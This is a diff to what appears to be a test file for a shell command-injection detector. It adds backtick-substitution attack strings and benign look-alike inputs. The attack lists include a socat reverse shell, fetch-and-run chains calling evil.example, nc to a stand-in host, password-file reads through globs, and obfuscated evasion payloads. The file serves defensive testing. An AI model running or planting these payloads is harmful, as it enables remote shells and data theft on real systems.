@@ -31,7 +31,7 @@ const ATTACKS: Record<string, string[]> = {
     ';$u wget evil.example/x', '|$a cat notes.txt', 'n$u\\c$u -lvp 4444', 'g=nc;$g evil.example 80', 'c1=c;c2=a;c3=t;$c1$c2$c3 notes.txt', 'a=/ec;b=ho;$a$b hi', "$'\\167\\150\\157\\141\\155\\151'", '$0 -c id',
     '${PATH:0:1}', 'cat ${HOME%/*}', '$((7*6))', '$[2+2]', 'echo ${x//a/b}',
   ],
-  'command chains': ['whoami;00', 'id & whoami', 'uname -a & whoami', 'whoami;','127.0.0.1 | id', 'example.com;w', 'socat tcp:203.0.113.9:80 exec:sh',';date -f secrets.txt', ';flock -u /', 'http://evil.example/x.php;lwp-download http://evil.example/a.jpg;perl a.jpg;rm -rf a.jpg'],
+  'command chains': ['John Smith `whoami`', 'Smith `whoami`', 'x`whoami`', 'abc`uname -a`','whoami;00', 'id & whoami', 'uname -a & whoami', 'whoami;','127.0.0.1 | id', 'example.com;w', 'socat tcp:203.0.113.9:80 exec:sh',';date -f secrets.txt', ';flock -u /', 'http://evil.example/x.php;lwp-download http://evil.example/a.jpg;perl a.jpg;rm -rf a.jpg'],
   'globs and shell escapes': ['{/?s?/?i?/c?t,}', '/?i?/c?t notes.txt', 'cat /et*/*wd', 'x; tail -n 5 /v?r/l?g/*', 'find /etc -name passwd -exec cat {} +', 'tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh', "awk 'BEGIN {system(\"id\")}'"],
 };
 
@@ -61,7 +61,7 @@ const BENIGN: string[] = [
   'java.util.List is an interface', 'Runtime error in java.lang.RuntimeException', 'while we wait', 'while (i < 10) i++', 'process the refund',
   'localhost is fine for dev', '> /tmp is full, please clean it', 'name__icontains', 'https://example.com/help', 'jar of cookies: 3',
   '../guide/setup.md', 'Routes like /api/*/users are matched first', 'How do I find files older than 7 days and delete them with -exec rm in a cron job?', '/api/v1/users/../users/42', 'Use ${PORT:-3000}', 'Total: ${total}', 'JSONPath $[0].name or $[-1:] or $[*].id', 'price=5;$price total', 'a=1;b=2;$a$b', 'We use $((a+b)) in our bash scripts per the style guide', 'Regards,\nJohn\n--\nSent from my phone', 'See chapter 5 (system calls) for exec() and fork()',
-  'Set LD_PRELOAD to the path of the library you want loaded first, e.g. LD_PRELOAD=/usr/lib/libfoo.so when debugging', "require('http')", 'include "header.php";', 'Name | ID', 'Salt & Pepper', 'Cat & Dog', 'Python & Django', 'Grep & Sed', 'Salt; Pepper', 'Cat | Dog', 'python & django', 'file.txt | sort please',
+  'Set LD_PRELOAD to the path of the library you want loaded first, e.g. LD_PRELOAD=/usr/lib/libfoo.so when debugging', "require('http')", 'include "header.php";', 'Name | ID', 'Use `curl` or `wget`', 'use `ls` and `cat`', '`ls` shows nothing', 'Please paste the output of `uname -a`', 'Salt & Pepper', 'Cat & Dog', 'Python & Django', 'Grep & Sed', 'Salt; Pepper', 'Cat | Dog', 'python & django', 'file.txt | sort please',
   'Mix: salt & ("pepper" + "oil")', 'Use `n`t for a tab in PowerShell', '$env:PATH is set', 'my %HOME% dir', 'a | b | more', 'socat is a relay tool', '$0 is the script name',
   'myfunction(){ echo hello }', 'render() { return this.html }', '(Mr.Smith)(2)', '(e.g.)(see below)', 'x^2 + y^2 /c', "array_map('strtoupper', $names)", "t('system', 'dark')", '<?xml-stylesheet href="a.xsl"?>',
   'Saved photo.jpg. Then I uploaded notes.txt, report.pdf. Can you check?', 'The {php} tag is deprecated',
